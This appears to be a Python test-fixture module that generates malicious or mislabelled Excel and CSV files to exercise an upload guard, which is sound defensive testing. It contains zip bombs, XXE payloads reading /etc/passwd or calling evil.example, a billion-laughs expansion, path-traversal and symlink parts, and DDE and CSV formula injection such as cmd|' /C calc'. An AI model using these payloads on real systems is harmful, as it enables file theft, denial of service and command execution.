"""Files that are made to hurt whoever opens them, or that are not what they are called. Made when asked for."""

from __future__ import annotations

import functools
import gzip
import io
import struct
import zipfile
from collections.abc import Callable, Mapping

from openpyxl import Workbook

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
SHEET = "xl/worksheets/sheet1.xml"
STRINGS = "xl/sharedStrings.xml"
FAR = '<row r="1"><c r="XFD1048576"><v>1</v></c></row>'
LAUGHS = '<!DOCTYPE x [<!ENTITY a0 "ha">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


@functools.cache
def plain() -> bytes:
    """An honest workbook of two sheets, from which the others are made."""
    workbook = Workbook()
    workbook.active.append(["fact", "words"])
    workbook.active.append(["The plan is read aloud.", "I like it"])
    workbook.create_sheet("More").append(["x"])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def repacked(changed: Mapping[str, bytes | None], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    """The honest workbook with parts replaced, added or left out."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(plain())) as old, zipfile.ZipFile(out, "w", packing) as new:
        for name in old.namelist():
            if name not in changed:
                new.writestr(name, old.read(name))
        for name, data in changed.items():
            if data is not None:
                new.writestr(name, data)
    return out.getvalue()


def sheet(rows: str, before: str = "", after: str = "", head: str = "") -> bytes:
    return f'{head}<worksheet xmlns="{MAIN}">{before}<sheetData>{rows}</sheetData>{after}</worksheet>'.encode()


def with_sheet(rows: str, **around: str) -> bytes:
    return repacked({SHEET: sheet(rows, **around)})


def with_strings(strings: bytes, rows: str = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>') -> bytes:
    return repacked({STRINGS: strings, SHEET: sheet(rows)})


def strings(*texts: str, head: str = "") -> bytes:
    return f'{head}<sst xmlns="{MAIN}">{"".join(f"<si><t>{text}</t></si>" for text in texts)}</sst>'.encode()


def part(name: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(plain())) as parts:
        return parts.read(name)


def under_another_name(name: str) -> bytes:
    """Its sheet is a part whose name says nothing; only the workbook's own list says what it is."""
    return repacked(
        {
            SHEET: None,
            name: sheet(FAR),
            "[Content_Types].xml": part("[Content_Types].xml").replace(SHEET.encode(), name.encode()),
            "xl/_rels/workbook.xml.rels": part("xl/_rels/workbook.xml.rels").replace(
                b"worksheets/sheet1.xml", name.removeprefix("xl/").encode()
            ),
        }
    )


def pointing_at(target: str) -> bytes:
    found = part("xl/_rels/workbook.xml.rels").replace(b"/xl/worksheets/sheet1.xml", target.encode())
    return repacked({"xl/_rels/workbook.xml.rels": found})


def listed_twice(times: int) -> bytes:
    """One packed part that the list of contents names again and again."""
    content = repacked({"xl/media/bomb": bytes(9_000_000)})
    end = content.rindex(b"PK\x05\x06")
    start = struct.unpack_from("<I", content, end + 16)[0]
    last = content.rindex(b"PK\x01\x02", start, end)
    entry = content[last:end]
    directory = content[start:end] + entry * times
    count = struct.unpack_from("<H", content, end + 8)[0] + times
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), start, 0)
    return content[:start] + directory + tail


def changed_at(pattern: bytes, offset: int, data: bytes) -> bytes:
    content = bytearray(plain())
    at = content.index(pattern) + offset
    content[at : at + len(data)] = data
    return bytes(content)


def protected() -> bytes:
    content = bytearray(plain())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = content.find(mark)
        while at >= 0:
            content[at + offset] |= 1
            at = content.find(mark, at + 4)
    return bytes(content)


def a_link() -> bytes:
    out = io.BytesIO(repacked({}))
    with zipfile.ZipFile(out, "a") as parts:
        link = zipfile.ZipInfo("xl/worksheets/sheet9.xml")
        link.external_attr = 0o120777 << 16
        parts.writestr(link, "/etc/passwd")
    return out.getvalue()


def zipped(names: list[str], data: bytes = b"<x/>") -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as parts:
        for name in names:
            parts.writestr(name, data)
    return out.getvalue()


def doubled() -> bytes:
    out = io.BytesIO(plain())
    with zipfile.ZipFile(out, "a") as parts:
        parts.filelist.clear()  # so that it does not complain
        parts.NameToInfo.clear()
        parts.writestr(SHEET, sheet(FAR))
        for name in zipfile.ZipFile(io.BytesIO(plain())).infolist():
            parts.filelist.append(name)
    return out.getvalue()


def many_cells(rows: int, columns: int, cell: str) -> str:
    return f"<row>{cell * columns}</row>" * rows


REFUSED: dict[str, Callable[[], bytes]] = {
    "a part that unpacks to 101 MB": lambda: repacked({"xl/media/x": bytes(101_000_000)}),
    "parts that unpack to 95 MB, 200 times as much": lambda: repacked(
        {f"xl/media/{n}": bytes(9_500_000) for n in range(10)}
    ),
    "one part that is listed a hundred times": lambda: listed_twice(100),
    "a bomb inside a bomb": lambda: repacked({"xl/x.zip": zipped([f"{n}" for n in range(9)], bytes(11_500_000))}),
    "a cell in the far corner": lambda: with_sheet(FAR),
    "a cell in the far corner, in other quotation marks": lambda: with_sheet(FAR.replace('"', "'")),
    "a cell in the far corner, with dollars": lambda: with_sheet('<row><c r="$XFD$1048576"><v>1</v></c></row>'),
    "a cell in the far corner, under a prefix": lambda: repacked(
        {SHEET: sheet(FAR).replace(b"xmlns=", b"xmlns:x=").replace(b"<", b"<x:").replace(b"<x:/", b"</x:")}
    ),
    "a cell in the far corner, behind other marks": lambda: with_sheet(FAR.replace(" r=", ' s="0" t="n" r=')),
    "a cell in the far corner of a part named .dat": lambda: under_another_name("xl/worksheets/data.dat"),
    "a cell in the far corner of a part named .XML": lambda: under_another_name("xl/worksheets/SHEET1.XML"),
    "a cell in the far corner of a picture": lambda: under_another_name("xl/media/image1.png"),
    "a column without end": lambda: with_sheet('<row r="1"><c r="AAAAAA1"><v>1</v></c></row>'),
    "a row without end": lambda: with_sheet(f'<row r="1"><c r="A{"9" * 4_000}"><v>1</v></c></row>'),
    "400,000 rows without numbers": lambda: with_sheet(many_cells(400_000, 1, "<c><v>1</v></c>")),
    "four million cells": lambda: with_sheet(many_cells(20_000, 200, "<c/>")),
    "a text of one megabyte in 9,000 cells": lambda: with_strings(
        strings("x" * 1_000_000), many_cells(90, 100, '<c t="s"><v>0</v></c>')
    ),
    "a text of 100 kB in two million cells": lambda: with_strings(
        strings("x" * 100_000), many_cells(10_000, 200, '<c t="s"><v>0</v></c>')
    ),
    "a file of this machine as an entity": lambda: with_strings(strings("&a;", head=OUTSIDE)),
    "an entity of another site": lambda: with_strings(
        strings("&a;", head='<!DOCTYPE x [<!ENTITY a SYSTEM "http://evil.example/">]>')
    ),
    "a billion laughs": lambda: with_strings(strings("&a9;", head=LAUGHS + "]>")),
    "an external definition": lambda: with_sheet("", head='<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
    "a definition in small letters": lambda: with_sheet("", head="<!doctype x>"),
    "a definition in the properties": lambda: repacked({"docProps/app.xml": LAUGHS.encode() + b"]><Properties/>"}),
    "a definition in the styles": lambda: repacked({"xl/styles.xml": OUTSIDE.encode() + b"<styleSheet/>"}),
    "a definition in the list of parts": lambda: repacked({"_rels/.rels": OUTSIDE.encode() + part("_rels/.rels")}),
    "a definition in UTF-16": lambda: repacked({STRINGS: strings("&a;", head=OUTSIDE).decode().encode("utf-16")}),
    "a definition in UTF-16 the other way round": lambda: repacked(
        {STRINGS: b"\xfe\xff" + strings("&a;", head=OUTSIDE).decode().encode("utf-16-be")}
    ),
    "a sheet in UTF-16": lambda: repacked({SHEET: sheet(FAR).decode().encode("utf-16")}),
    "a sheet in UTF-32": lambda: repacked({SHEET: sheet(FAR).decode().encode("utf-32")}),
    "cut off at a quarter": lambda: plain()[: len(plain()) // 4],
    "cut off in the middle": lambda: plain()[: len(plain()) // 2],
    "cut off in the list of contents": lambda: plain()[: plain().rindex(b"PK\x01\x02") + 20],
    "cut off before its last byte": lambda: plain()[:-1],
    "a program": lambda: b"MZ\x90\x00\x03" + bytes(range(256)) * 40,
    "a picture": lambda: b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(500),
    "a document with pages": lambda: b"%PDF-1.7\n\x00\x01\x02" + bytes(500),
    "a packed text": lambda: gzip.compress(b"fact\nx\n" * 1_000),
    "an old workbook, or one with a password": lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(5_000),
    "parts with a password": protected,
    "a part above its folder": lambda: repacked({"../../evil.xml": b"<x/>"}),
    "a part from the root": lambda: repacked({"/etc/evil.xml": b"<x/>"}),
    "a part above its folder, in another spelling": lambda: repacked({"..\\..\\evil.xml": b"<x/>"}),
    "a part on a drive": lambda: repacked({"C:evil.xml": b"<x/>"}),
    "a thousand parts too many": lambda: repacked({f"xl/x{n}": b"" for n in range(3_000)}),
    "20,000 parts": lambda: zipped([f"{n}" for n in range(20_000)], b""),
    "two parts of one name": doubled,
    "a list of contents that points elsewhere": lambda: changed_at(b"PK\x05\x06", 16, b"\x01\x00\x00\x00"),
    "a part that is longer than it says": lambda: changed_at(b"PK\x01\x02", 24, b"\x01\x00\x00\x00"),
    "a part with a wrong sum": lambda: changed_at(b"PK\x01\x02", 16, b"\x00\x00\x00\x00"),
    "a part packed in a way that nobody knows": lambda: changed_at(b"PK\x01\x02", 10, b"\x63\x00"),
    "parts packed by LZMA": lambda: repacked({}, zipfile.ZIP_LZMA),
    "parts packed by bzip2": lambda: repacked({}, zipfile.ZIP_BZIP2),
    "a zip file of something else": lambda: zipped(["readme.txt"]),
    "a zip file of nothing": lambda: zipped([]),
    "a text document": lambda: zipped(["[Content_Types].xml", "word/document.xml"]),
    "an OpenDocument sheet": lambda: zipped(["mimetype", "content.xml", "META-INF/manifest.xml"]),
    "a binary workbook": lambda: repacked({"xl/workbook.bin": bytes(2_000), "xl/worksheets/sheet1.bin": bytes(2_000)}),
    "a binary workbook alone": lambda: zipped(["[Content_Types].xml", "xl/workbook.bin", "xl/_rels/workbook.bin.rels"]),
    "no list of parts": lambda: repacked({"[Content_Types].xml": None}),
    "no workbook": lambda: repacked({"xl/workbook.xml": None}),
    "a workbook that is no XML": lambda: repacked({"xl/workbook.xml": b"<<<<>>>>&&&"}),
    "a sheet that lies on another site": lambda: pointing_at("http://evil.example/sheet1.xml"),
    "a sheet that is a file of this machine": lambda: pointing_at("file:///etc/passwd"),
    "a sheet that lies above its folder": lambda: pointing_at("../../../../etc/passwd"),
    "a text that is not there": lambda: with_sheet('<row r="1"><c r="A1" t="s"><v>99999999</v></c></row>'),
    "CSV with empty bytes": lambda: b"fact\nx\x00y\n",
    "CSV whose quotation never ends": lambda: b'fact\n"' + b"x\n" * 100_000,
    "CSV of five million columns": lambda: b"," * 5_000_000,
    "CSV of 201 columns": lambda: b"a," * 201,
    "CSV of 50,001 rows": lambda: b"fact\n" + b"x\n" * 50_001,
    "CSV of no encoding": lambda: b"\x81\x8d\x8f\x90\xff fact",
    "UTF-32 text": lambda: "fact\nx\n".encode("utf-32"),
    "only the mark of UTF-8": lambda: b"\xef\xbb\xbf",
    "only the mark of UTF-16": lambda: b"\xff\xfe",
    "nothing": lambda: b"",
    "only empty lines": lambda: b"\n" * 1_000_000,
    "ten megabytes and one byte": lambda: b"x" * 10_000_001,
}

# What it must be that is read of it, somewhere in its rows.
READ: dict[str, tuple[Callable[[], bytes], object]] = {
    "a web page that is called a workbook": (lambda: b"<html><script>alert(1)</script></html>", "<html><script>"),
    "a sheet that says it is as large as can be": (
        lambda: with_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', before='<dimension ref="A1:XFD1048576"/>'),
        1.0,
    ),
    "cells that are joined to the far corner": (
        lambda: with_sheet(
            '<row r="1"><c r="A1"><v>1</v></c></row>', after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'
        ),
        1.0,
    ),
    "a formula that calls a program": (
        lambda: with_sheet(
            '<row r="1"><c r="A1" t="str"><f>cmd|\' /C calc\'!A0</f><v>kept</v></c><c r="B1"><f>1+1</f></c></row>'
        ),
        "kept",
    ),
    "links to other workbooks and to data outside": (
        lambda: repacked(
            {
                "xl/externalLinks/externalLink1.xml": b'<externalLink><externalBook r:id="1"/></externalLink>',
                "xl/connections.xml": b'<connections><connection dbPr="x" url="http://evil.example/"/></connections>',
            }
        ),
        "I like it",
    ),
    "macros": (lambda: repacked({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(3_000)}), "I like it"),
    "a part that is a link to a file": (a_link, "I like it"),
    "elements a hundred thousand deep": (
        lambda: with_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', after="<a>" * 100_000 + "</a>" * 100_000),
        1.0,
    ),
    "a comment of ten megabytes": (
        lambda: with_sheet('<row r="1"><c r="A1"><v>1</v></c></row>', before=f"<!--{'x y ' * 2_400_000}-->"),
        1.0,
    ),
    "an element with a hundred thousand marks": (
        lambda: with_sheet(
            '<row r="1"><c r="A1"><v>1</v></c></row>',
            before="<x " + " ".join(f'a{n}="1"' for n in range(100_000)) + "/>",
        ),
        1.0,
    ),
    "a number that is a moment beyond time": (
        lambda: with_sheet('<row r="1"><c r="A1" t="n" s="1"><v>1e308</v></c><c r="B1"><v>7</v></c></row>'),
        7.0,
    ),
    "a style that is not there": (lambda: with_sheet('<row r="1"><c r="A1" s="99999999"><v>7</v></c></row>'), 7.0),
    "CSV of one line of ten megabytes": (lambda: b"fact\n" + b"x" * 9_900_000, "xxx"),
    "CSV of 200,000 quotation marks": (lambda: b'fact\n"' + b'""' * 100_000 + b'"\n', '""'),
    "CSV with formulas": (lambda: b"fact\n=cmd|' /C calc'!A0\n@SUM(A1)\n", "=cmd|"),
    "CSV in broken UTF-8": (lambda: b"fact\ncaf\xe9 \xc3\n", "café"),
    "CSV in broken UTF-16": (lambda: "fact\nread".encode("utf-16") + b"\x00", "read"),
    "CSV with two marks of UTF-8": (lambda: "\ufeff\ufefffact\nread\n".encode(), "read"),
    "a part that says it is longer than the file": (
        lambda: changed_at(b"PK\x01\x02", 20, b"\xff\xff\xff\x7f"),
        "I like it",
    ),
    "CSV with control characters": (lambda: b"fact\n\x1b[31mred\x07\x08\n", "\x1b[31mred"),
}
# Before the parser is asked, the guard itself could be kept busy for ever.
ENDLESS: dict[str, Callable[[], bytes]] = {
    "a sheet of nothing but beginnings": lambda: with_sheet("<c " * 5_000_000),
    "a sheet of one beginning without an end": lambda: with_sheet("<c " + "a " * 5_000_000),
    "a sheet of rows that begin": lambda: with_sheet("<row" * 5_000_000),
}
# Those that cost seconds, or that would take the process along that reads them.
HEAVY = {
    "a part that unpacks to 101 MB",
    "parts that unpack to 95 MB, 200 times as much",
    "a bomb inside a bomb",
    "400,000 rows without numbers",
    "four million cells",
    "a text of one megabyte in 9,000 cells",
    "a text of 100 kB in two million cells",
    "20,000 parts",
    *ENDLESS,
}
